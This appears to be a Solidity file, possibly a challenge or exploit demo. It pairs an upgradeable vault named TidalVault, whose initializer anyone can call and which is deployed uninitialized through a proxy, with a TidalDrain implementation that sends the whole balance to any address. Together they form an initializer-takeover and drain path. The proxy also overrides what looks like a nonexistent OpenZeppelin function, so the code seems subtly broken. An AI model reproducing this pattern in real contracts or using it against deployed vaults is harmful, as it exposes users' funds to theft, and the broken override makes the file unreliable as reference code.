// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {ERC1967Proxy} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";

contract TidalVault is UUPSUpgradeable {
    address public governor;
    mapping(address => uint256) public credit;
    function setup(address g) external { require(governor == address(0), "done"); governor = g; }
    function put() external payable { credit[msg.sender] += msg.value; }
    function take(uint256 v) external { credit[msg.sender] -= v; (bool ok, ) = msg.sender.call{value: v}(""); require(ok); }
    function _authorizeUpgrade(address) internal view override { require(msg.sender == governor, "gov"); }
}
contract LazyProxy is ERC1967Proxy {
    constructor(address impl) ERC1967Proxy(impl, "") payable {}
    function _unsafeAllowUninitialized() internal pure override returns (bool) { return true; }
}
contract TidalDrain is UUPSUpgradeable {
    function flush(address payable to) external { to.transfer(address(this).balance); }
    function _authorizeUpgrade(address) internal view override {}
}
